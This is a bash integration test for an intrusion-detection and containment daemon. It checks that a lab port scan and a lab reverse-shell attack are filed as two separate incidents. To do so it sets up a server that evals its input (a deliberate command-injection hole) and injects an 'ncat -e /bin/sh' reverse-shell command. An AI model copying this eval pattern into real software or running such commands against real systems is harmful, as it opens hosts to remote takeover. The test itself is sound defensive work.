#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# One incident per finding chain, end to end (enforce mode, the daemon
# storing every event: --store-events all):
#
#   - a server on the protected host that runs the first line it is sent
#     (a command injection), in the test's cgroup;
#   - a benign client (host 3) talks to it every 0.3 s throughout;
#   - attacker A (host 1) talks to it once, then scans the host (nmap -sT):
#     portscan, high;
#   - attacker B (host 2) sends it `ncat -e /bin/sh B 9001`: a reverse shell
#     spawned under the same server process, killed: reverse_shell, critical.
#
# Expected: two incidents, the scan's (high: A's finding and A's traffic)
# and the reverse shell's (critical: its finding, the relay's kill), apart
# although both attackers went through the same server process; the
# client's accepts and its handlers' forks and execs in no incident.
. "$(dirname "$0")/lib.sh"
need_tools nmap ncat socat sqlite3

EV=$IRC_TMP/events.jsonl
POL=$IRC_TMP/policy.yaml
DB=$IRCONTAIN_STATE_DIR/ircontain.db
A=10.77.1.2 B=10.77.2.2 C=10.77.3.2 PORT=8080
sq() { sqlite3 -batch "$DB" "$1"; }

cat >"$POL" <<EOF
mode: enforce
detectors:
  portscan: {enabled: true, ports: 10, window: 10s, severity: high, action: quarantine-host, ttl: 60s}
  synflood: {enabled: false}
  exec_tmp: {enabled: false}
  fileless: {enabled: false}
  reverse_shell: {enabled: true, severity: critical, action: kill}
  sensitive_read: {enabled: false}
  ptrace: {enabled: false}
  module_load: {enabled: false}
EOF

lab_up 3 || { not_ok "lab up"; exit 1; }
check_rc "load --iface iv1 --iface iv2 --iface iv3" 0 irc load --iface iv1 --iface iv2 --iface iv3
check_rc "policy apply" 0 irc policy apply "$POL"
bg nsenter --net="/run/netns/$IRC_NS_P" "$IRC_BIN" run --events-file "$EV" --store-events all \
	2>"$IRC_TMP/daemon.err"
DPID=$!
daemon_ready() { [[ $(jq -r .pid "$IRCONTAIN_STATE_DIR/run.json" 2>/dev/null) == "$DPID" ]]; }
check "run: ready" wait_for 5 daemon_ready

# The vulnerable server: each connection's first line is run by sh.
bg cg_run srv ip netns exec "$IRC_NS_P" timeout 60 \
	socat "TCP4-LISTEN:$PORT,reuseaddr,fork" SYSTEM:'read -r l; eval "$l"; echo done'
check "server listening" wait_for 5 in_p sh -c "ss -Htln sport = :$PORT | grep -q ."
for p in $(cat "$IRC_CG/srv/cgroup.procs"); do
	[[ $(cat "/proc/$p/comm" 2>/dev/null) == socat ]] && { SRV=$p; break; }
done
# say HOST LINE: one connection from host HOST, sending LINE.
say() { in_h "$1" timeout 3 socat -t 1 - "TCP4:10.77.$1.1:$PORT" <<<"$2" >/dev/null 2>&1; }

# The benign client, all along.
bg bash -c "for i in \$(seq 60); do ip netns exec '${IRC_NS_PFX}h3' timeout 2 socat -t 0.2 - TCP4:10.77.3.1:$PORT <<<'echo ok' >/dev/null 2>&1; sleep 0.3; done"
c_accepts() { sq "SELECT count(*) FROM events WHERE type = 'accept' AND peer = 'host:$C'"; }
c_answered() { (($(c_accepts) >= 2)); }
check "benign client: answered" wait_for 5 c_answered

# A: a conversation (its handshake verifies it), then a scan.
check "A talks to the server" say 1 "echo hello"
in_h 1 timeout 20 nmap -sT -Pn -n --max-retries 0 -p 1-40 "10.77.1.1" >"$IRC_TMP/nmap.out" 2>&1
check "A's scan: portscan finding" wait_for 8 sh -c "grep -F '\"portscan_detected\"' '$EV' | grep -qF '\"$A\"'"

# B: the injection that starts a reverse shell under the server.
# (its stdin kept open: at EOF the listener would hang up before the shell starts)
bg in_h 2 timeout 15 sh -c 'sleep 12 | ncat -l 9001 >/dev/null'
check "B's listener" wait_for 5 in_h 2 sh -c "ss -Htln sport = :9001 | grep -q ."
check "B injects the reverse shell" say 2 "ncat -e /bin/sh $B 9001 &"
check "reverse shell: finding" wait_for 8 sh -c "grep -F '\"reverse_shell_detected\"' '$EV' | grep -q 'ncat'"
sleep 3	# the client goes on; the store commits within a second

kill -TERM "$DPID"
# at a stop the daemon drains the rings (up to 1 s) and its store queue: slow under load
check "run: exits" wait_for 15 sh -c "! kill -0 $DPID 2>/dev/null"

SCAN=$(sq "SELECT incident FROM events WHERE type = 'finding' AND target = 'host:$A' LIMIT 1")
RSH=$(sq "SELECT incident FROM events WHERE type = 'finding' AND actor = 'reverse_shell' LIMIT 1")
echo "# incidents: $(sq "SELECT id || ' ' || severity || ' ' || title FROM incidents" | paste -sd';')"
check "the scan opened an incident" test "${SCAN:-0}" -gt 0
check "the reverse shell opened another one (same server process, another attacker)" \
	sh -c "[ '${RSH:-0}' -gt 0 ] && [ '$RSH' != '$SCAN' ]"
check "the scan's incident: high" eq "$(sq "SELECT severity FROM incidents WHERE id = ${SCAN:-0}")" 3
check "the reverse shell's incident: critical" eq "$(sq "SELECT severity FROM incidents WHERE id = ${RSH:-0}")" 4
check "exactly these two incidents" eq "$(sq "SELECT count(*) FROM incidents")" 2
check "A's packets dropped after the scan are the scan's evidence" \
	gt "$(sq "SELECT count(*) FROM evidence WHERE type = 'packet' AND target = 'host:$A' AND incident = ${SCAN:-0}")" 0
check "A's conversation before the scan: in no incident (it came first)" \
	eq "$(sq "SELECT count(*) FROM events WHERE type = 'accept' AND peer = 'host:$A' AND incident != 0")" 0
check "the relay's kill is the reverse shell's" \
	gt "$(sq "SELECT count(*) FROM actions WHERE type = 'kill' AND incident = ${RSH:-0}")" 0
n_c=$(c_accepts)
check "the benign client's accepts were stored ($n_c)" gt "$n_c" 3
check "none of them in an incident" \
	eq "$(sq "SELECT count(*) FROM events WHERE peer = 'host:$C' AND incident != 0")" 0
check "the server's forks and its handlers' execs: in no incident" \
	eq "$(sq "SELECT count(*) FROM events WHERE (type = 'fork' AND target = 'pid:$SRV') AND incident != 0")" 0
check "nothing of the server process filed in either incident but A's and B's traffic" \
	eq "$(sq "SELECT count(*) FROM events WHERE target = 'pid:$SRV' AND incident != 0 AND peer NOT IN ('host:$A', 'host:$B')")" 0
check_rc "verify: the store's chain holds" 0 irc verify
check_rc "unload" 0 irc unload
